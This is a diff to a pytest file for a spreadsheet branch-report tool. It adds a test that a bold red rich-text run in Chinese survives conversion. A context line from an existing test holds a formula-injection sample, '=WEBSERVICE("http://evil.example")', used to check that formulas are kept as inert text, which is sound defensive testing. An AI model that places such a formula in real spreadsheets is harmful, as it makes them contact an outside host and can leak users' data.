@@ -146,6 +146,23 @@ def test_formulas_in_the_branch_file_come_back_as_text(tmp_path: Path):
     assert roundtrip_values(out)[FORM_SHEET][0] == ["=1+1", '=WEBSERVICE("http://evil.example")']
 
 
+def test_rich_text_in_the_branch_file_stays_rich(tmp_path: Path):
+    """Only colours and comments change in the branch's form: a run typed bold and red stays so."""
+    from openpyxl.cell.rich_text import CellRichText, TextBlock
+    from openpyxl.cell.text import InlineFont
+
+    src = tmp_path / "f.xlsx"
+    wb = openpyxl.Workbook()
+    wb.active.title = FORM_SHEET
+    wb.active["B10"] = CellRichText(["以", TextBlock(InlineFont(b=True, color="FFFF0000"), "优质护理"), "为抓手"])
+    wb.save(src)
+    out = write_branch_report(_submission(src, "xlsx"), [], tmp_path)
+    value = openpyxl.load_workbook(out, rich_text=True)[FORM_SHEET]["B10"].value
+    assert isinstance(value, CellRichText) and str(value) == "以优质护理为抓手"
+    (bold,) = [block for block in value if isinstance(block, TextBlock)]
+    assert bold.text == "优质护理" and bold.font.b
+
+
 def test_one_file_with_several_branches_gets_one_report(tmp_path: Path):
     src = tmp_path / "第一党总支汇总.xlsx"
     wb = openpyxl.Workbook()
